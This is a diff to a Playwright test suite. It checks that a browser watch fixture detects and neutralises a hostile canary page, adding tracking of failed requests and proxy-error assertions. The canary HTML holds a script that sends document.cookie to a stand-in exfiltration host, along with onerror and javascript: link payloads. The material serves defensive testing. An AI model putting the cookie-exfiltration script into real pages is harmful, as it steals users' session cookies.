@@ -226,6 +226,7 @@ def browser() -> Iterator[Browser]:
 class Watched:
     page: Page
     requests: list[str] = field(default_factory=list)
+    failed: dict[str, str] = field(default_factory=dict)  # url → the browser's error (net::ERR_…)
     console_errors: list[str] = field(default_factory=list)
     page_errors: list[str] = field(default_factory=list)
     dialogs: list[str] = field(default_factory=list)
@@ -253,6 +254,7 @@ def watched(browser: Browser) -> Iterator[Watched]:
 
     # every page of the context (a pop-up too); requests off the host fail at the dead proxy (CHROMIUM_ARGS)
     context.on("request", lambda request: seen.requests.append(request.url))
+    context.on("requestfailed", lambda request: seen.failed.setdefault(request.url, request.failure or ""))
     page.on(
         "console",
         lambda message: (
@@ -545,6 +547,7 @@ _CANARY = """<!doctype html><html><head><title>canary</title></head><body>
 <img src="missing.png" onerror="window.__pwned = 'onerror'">
 <a id="js" href="javascript:alert('link')">click-js</a>
 <script>fetch('https://exfiltrate.example.com/?c=' + document.cookie).catch(() => {});</script>
+<script>window.__pwned = window.__pwned || 'script';</script>
 </body></html>"""
 
 
@@ -559,6 +562,7 @@ def test_the_watch_sees_what_a_hostile_page_does(tmp_path: Path, watched: Watche
             _check_inert(watched, "canary")
         found = watched.page.evaluate(_DANGEROUS_DOM)
         assert found["onAttributes"] and found["javascriptUrls"] and found["javascriptLinks"] == 1
+        assert found["scripts"] == 1
         assert set(watched.off_host()) >= {
             "http://example.invalid/leak.png",
             "http://10.1.2.3/leak.png",
@@ -566,12 +570,15 @@ def test_the_watch_sees_what_a_hostile_page_does(tmp_path: Path, watched: Watche
         }
         with pytest.raises(AssertionError, match=re.escape("requests off 127.0.0.1")):
             watched.assert_clean("canary")
-        # the requests failed in the browser: the proxy they were sent to does not exist
+        # the requests failed in the browser, at the proxy they were sent to, which does not exist (not
+        # because this machine happens to have no network)
         status = watched.page.evaluate(
             "() => fetch('http://10.1.2.3/', {signal: AbortSignal.timeout(5000)})"
             ".then(r => r.status, e => 'failed: ' + e.name)"
         )
         assert status == "failed: TypeError", status  # refused at once, not timed out
+        off_host = {url: error for url, error in watched.failed.items() if url in watched.off_host()}
+        assert off_host and set(off_host.values()) == {"net::ERR_PROXY_CONNECTION_FAILED"}, watched.failed
         watched.page.click("#js")
         watched.page.wait_for_timeout(200)
         assert watched.dialogs == ["alert: link"]
